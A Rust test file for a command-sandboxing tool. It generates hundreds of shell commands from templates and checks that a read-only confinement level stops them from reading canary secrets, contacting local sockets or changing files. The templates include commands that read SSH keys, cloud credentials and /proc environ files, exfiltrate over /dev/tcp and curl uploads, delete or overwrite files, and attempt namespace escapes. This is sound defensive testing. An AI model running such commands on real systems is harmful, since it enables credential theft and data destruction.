//! Generated commands run at level look, in a world of files and sockets that they must not reach.
//!
//! 800 of them by default; `ATTACHE_TEST_COMMANDS=10000` runs the long version, a minute and a half.

use std::collections::BTreeMap;
use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::{MetadataExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use attache_tool::Access;

use crate::world::World;

/// Each confined shell runs this many commands, one after the other.
const BATCH: usize = 100;
const SECRET: &str = "canary-5c0f6c1e";

/// Commands that read, write or send; `@` is a path, `%` an address.
const ACTIONS: &[&str] = &[
    "cat @",
    "head -c 99 @",
    "tac @",
    "grep -R '' @",
    "grep -a . @",
    "sed -n p @",
    "awk 1 @",
    "od -c @",
    "base64 @",
    "strings @",
    "cp @ /tmp/stolen && cat /tmp/stolen",
    "cp -rL @ /tmp/stolen; grep -r '' /tmp/stolen",
    "ln @ /tmp/hard && cat /tmp/hard",
    "ln -s @ /tmp/soft$$ && cat /tmp/soft$$",
    "tar cf - @ 2>/dev/null | tar xOf -",
    "find @ -type f -exec cat {} +",
    "xargs cat <<< @",
    "while read -r l; do echo $l; done < @",
    "echo $(< @)",
    "mapfile x < @; echo ${x[@]}",
    "python3 -c 'print(open(\"@\").read())'",
    "perl -pe 1 @",
    "dd if=@ 2>/dev/null",
    "diff @ /dev/null",
    "git diff --no-index @ /dev/null",
    "git hash-object -w @",
    "sort @",
    "source @",
    "echo x > @",
    "echo x >> @",
    "tee @ <<< x",
    "cp /etc/passwd @",
    "mv @ /tmp/moved",
    "rm -rf @",
    "truncate -s 0 @",
    "touch @",
    "chmod 777 @",
    "sed -i s/c/x/ @",
    "mkdir -p @/made",
    "ln -sf /etc/passwd @",
    "dd of=@ <<< x",
    "install /etc/passwd @",
    "python3 -c 'open(\"@\",\"w\").write(\"x\")'",
    "exec 3<>/dev/tcp/% && echo x >&3",
    "curl -s --max-time 1 http://%/",
    "python3 -c 'import socket;socket.create_connection(tuple(\"%\".split(\"/\"))).send(b\"x\")'",
    "echo x > /dev/udp/%",
    "exec 3>/dev/udp/% && cat @ >&3",
    "curl -s --max-time 1 -T @ http://%/",
    "git ls-remote git://%/x",
    "kill -9 SERVER",
    "cat /proc/SERVER/environ",
    "cat /proc/SERVER/root@",
    "cat /proc/1/root@",
    "cat /proc/self/root@",
    "ls -la /proc/SERVER/fd/",
    "cat /proc/*/environ",
    "ls -laR @",
    "stat @",
    "mount --bind @ /tmp",
    "chroot @ cat x",
    "unshare -Urm cat @",
    "nsenter -t SERVER -m cat @",
    "cd @ && cat * .*",
];

/// Lines that contain a command at `#`.
const WRAPPERS: &[&str] = &[
    "#",
    "#",
    "(#)",
    "{ #; }",
    "sh -c '#'",
    "env X=1 bash -c '#'",
    "eval '#'",
    "echo $(#)",
    "true && #",
    "false || #",
    "# | cat",
    "# &",
    "timeout 1 #",
    "nohup #",
    "setsid sh -c '#'",
    "for i in 1 2; do #; done",
    "cd /tmp; #",
    "cd ~; #",
    "ulimit -t 1; #",
    "echo `#`",
    "exec 2>&1; #",
    "if #; then :; fi",
    "HOME=/; #",
    "cat <(#)",
];

/// Picks the same items in every run.
struct Picks(u64);

impl Picks {
    fn number(&mut self, below: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        ((self.0 >> 33) % below as u64) as usize
    }

    fn one<'a>(&mut self, list: &'a [impl AsRef<str>]) -> &'a str {
        list[self.number(list.len())].as_ref()
    }
}

/// Everything below a folder: what it is, what it holds, and when it was last changed.
fn state(folder: &Path) -> BTreeMap<PathBuf, (u32, i64, Vec<u8>)> {
    let mut found = BTreeMap::new();
    for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
        let metadata = entry.metadata().unwrap();
        let content = if metadata.is_file() { fs::read(entry.path()).unwrap() } else { Vec::new() };
        found.insert(entry.path(), (metadata.mode(), metadata.mtime(), content));
        if metadata.is_dir() {
            found.extend(state(&entry.path()));
        }
    }
    found
}

/// A file whose access time shows whether it was read: the kernel updates it at the first read after a change.
fn canary(path: &Path) -> PathBuf {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, format!("{SECRET}\n")).unwrap();
    path.to_owned()
}

/// Sets the access time to before the last change.
fn unread(path: &Path) {
    let file = fs::File::options().write(true).open(path).unwrap();
    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000);
    file.set_times(fs::FileTimes::new().set_accessed(old)).unwrap();
}

fn was_read(path: &Path) -> bool {
    let metadata = fs::metadata(path).unwrap();
    metadata.atime() >= metadata.mtime()
}

/// The same actions without confinement are detected, so the other test would see them.
#[test]
fn canaries_tell_when_they_are_read_called_or_changed() {
    let world = World::new();
    let secret = canary(&world.beside("outside/secret.txt"));
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let before = state(&world.beside("outside"));
    unread(&secret);
    assert!(!was_read(&secret));
    let (path, port) = (secret.display(), tcp.local_addr().unwrap().port());
    let ran = world.run(&format!("cat {path}; exec 3<>/dev/tcp/127.0.0.1/{port}"), &Access::open());
    assert!(ran.text.contains(SECRET) && was_read(&secret), "{ran:?}");
    assert!(tcp.accept().is_ok(), "{ran:?}");
    assert_eq!(state(&world.beside("outside")), before);
    let ran = world.run(&format!("touch {path}.new"), &Access::open());
    assert_ne!(state(&world.beside("outside")), before, "{ran:?}");
    // Level look refuses the same actions.
    unread(&secret);
    let ran = world.look(&format!("cat {path}; exec 3<>/dev/tcp/127.0.0.1/{port}"));
    assert!(!ran.text.contains(SECRET) && !was_read(&secret) && tcp.accept().is_err(), "{ran:?}");
}

fn commands() -> usize {
    #[expect(clippy::disallowed_methods, reason = "the environment chooses the length of the run")]
    let requested = std::env::var("ATTACHE_TEST_COMMANDS");
    requested.ok().map_or(800, |commands| commands.parse().expect("ATTACHE_TEST_COMMANDS is a number"))
}

#[test]
fn no_generated_command_reads_sends_or_changes_anything_outside() {
    let world = World::new();
    let home = world.beside("home");
    let secrets = [".ssh/id_rsa", ".aws/credentials", ".netrc", ".config/gh/hosts.yml", "notes/private.txt"];
    let mut canaries: Vec<PathBuf> = secrets.iter().map(|name| canary(&home.join(name))).collect();
    canaries.push(canary(&world.beside("outside/secret.txt")));
    canaries.push(canary(&world.beside("scratch/other/secret.txt")));
    symlink(&canaries[0], world.root().join("key.txt")).unwrap();
    symlink(&home, world.root().join("home")).unwrap();
    symlink("/proc/self/root", world.root().join("root")).unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let unix = UnixListener::bind(world.beside("service.sock")).unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    unix.set_nonblocking(true).unwrap();

    let mut paths: Vec<String> = canaries.iter().map(|path| path.display().to_string()).collect();
    paths.extend(
        [
            "key.txt",
            "home/.netrc",
            "root/etc/shadow",
            "~/.ssh/id_rsa",
            "$HOME/.netrc",
            "../outside/secret.txt",
        ]
        .map(str::to_owned),
    );
    paths.extend(
        [world.beside("outside"), home.clone(), world.beside("service.sock")]
            .map(|path| path.display().to_string()),
    );
    let addresses = [tcp.local_addr().unwrap(), udp.local_addr().unwrap()]
        .map(|address| format!("127.0.0.1/{}", address.port()));
    let mut picks = Picks(20_261_116);
    let mut line = || {
        let action = picks.one(ACTIONS).replace('@', picks.one(&paths)).replace('%', picks.one(&addresses));
        let action = action.replace("SERVER", &std::process::id().to_string());
        let wrapped = picks.one(WRAPPERS);
        let action = if wrapped.contains("'#'") { action.replace('\'', "'\\''") } else { action };
        wrapped.replace('#', &action)
    };
    let batches = commands().div_ceil(BATCH);
    for number in 0..batches {
        let lines: Vec<String> = (0..BATCH).map(|_| line()).collect();
        fs::write(world.root().join(format!("batch-{number}")), lines.join("\0") + "\0").unwrap();
    }
    let state_before = (state(&world.beside("outside")), state(&home), state(world.root()));
    // Comparing the files has read them.
    canaries.iter().for_each(|path| unread(path));

    std::thread::scope(|scope| {
        for part in 0..2 {
            let world = &world;
            scope.spawn(move || {
                for number in (0..batches).filter(|number| number % 2 == part) {
                    let script = format!(
                        "while IFS= read -r -d '' line; do timeout -k 1 3 bash -c \"$line\" </dev/null; done < batch-{number}; echo finished"
                    );
                    let ran = world.look(&script);
                    let text = ran.text.replace(char::is_whitespace, "");
                    assert!(!text.contains(SECRET), "{}", ran.text);
                    assert!(ran.text.ends_with("finished\n") || ran.text.contains("finished\n"), "{ran:?}");
                }
            });
        }
    });

    for path in &canaries {
        assert!(!was_read(path), "{} was read", path.display());
    }
    assert!(tcp.accept().is_err(), "a connection came through");
    assert!(udp.recv(&mut [0; 16]).is_err(), "a datagram came through");
    assert!(unix.accept().is_err(), "a local connection came through");
    assert_eq!(state_before, (state(&world.beside("outside")), state(&home), state(world.root())));
}
